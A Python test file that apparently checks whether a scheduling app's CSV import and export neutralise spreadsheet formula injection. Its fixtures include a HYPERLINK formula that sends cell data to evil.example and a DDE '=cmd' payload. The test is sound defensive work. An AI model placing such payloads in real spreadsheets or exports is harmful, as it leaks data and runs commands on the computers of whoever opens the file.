"""Issue 11: no CSV the app writes reaches a spreadsheet as a formula."""
import csv
import io

from sqlalchemy import select

from scheduling import solve
from tests.factories import DAY, make_csv_files
from trucks.importer import import_day
from trucks.models import Compound, Retailer, Truck
from trucks.exports import export
from trucks.services import PlanningSettings, build_problem, store_schedule
from trucks.spreadsheet import csv_text, neutralised

HOSTILE = {
    "A测试小区1": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "A测试小区2": "+SUM(1,2)",
    "A测试小区3": "-2+3",
    "A测试小区4": "@SUM(1)",
}


def test_text_that_starts_a_formula_is_quoted_and_numbers_are_not():
    assert [neutralised(cell) for cell in ("=1+1", "+86 138", "-x", "@a", "\tb", "\rc", "莘庄", "a=b")] == [
        "'=1+1", "'+86 138", "'-x", "'@a", "'\tb", "'\rc", "莘庄", "a=b"]
    assert [neutralised(cell) for cell in (-3, -2.5, "-2.5", "+7", 0)] == [-3, -2.5, "-2.5", "+7", 0]


def test_hostile_names_round_trip_through_import_and_export(dbsession):
    files = make_csv_files()
    text = files["compounds"].decode()
    for name, hostile in HOSTILE.items():
        text = text.replace(f"{name},", f'"{hostile.replace(chr(34), chr(34) * 2)}",')
    files["compounds"] = text.replace(",莘庄,", ",=cmd|' /C calc'!A0,", 1).encode()
    files["trucks"] = files["trucks"].replace("沪AA0001".encode(), b"-1+1")
    import_day(dbsession, DAY, files)
    names = dict(dbsession.execute(select(Compound.code, Compound.name)).all())
    assert [names[f"A-C0{i}"] for i in range(1, 5)] == list(HOSTILE.values())  # stored as typed

    retailer = dbsession.scalar(select(Retailer))
    settings = PlanningSettings(time_limit=0.5)
    day = build_problem(dbsession, DAY, retailer.id, settings)
    store_schedule(dbsession, day, solve(day.problem, time_limit=settings.time_limit, seed=0))
    rows = list(csv.DictReader(io.StringIO(export(dbsession, DAY, retailer_id=retailer.id, fmt="csv", latest=True))))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    exported = {row["compound_id"]: row["compound_name"] for row in rows}
    assert exported["A-C01"] == "'" + HOSTILE["A测试小区1"] and exported["A-C03"] == "'-2+3"
    assert {row["town"] for row in rows if row["compound_id"] == "A-C01"} == {"'=cmd|' /C calc'!A0"}
    assert "'-1+1" in {row["plate"] for row in rows}

    # a compounds.csv written the app's way imports back to the very same names
    columns = ("compound_id", "name", "town", "lat", "lon", "households", "window_start", "window_end",
               "service_minutes", "priority")
    again = csv_text(columns, [(c.code, c.name, c.town, c.lat, c.lon, c.households, "07:00", "19:00", "", c.priority)
                               for c in dbsession.scalars(select(Compound))])
    assert "'=HYPERLINK" in again
    files["compounds"] = again.encode()
    import_day(dbsession, DAY, files)
    dbsession.expire_all()
    assert dict(dbsession.execute(select(Compound.code, Compound.name)).all()) == names
    assert dbsession.scalar(select(Truck.plate).where(Truck.code == "A-T1")) == "-1+1"

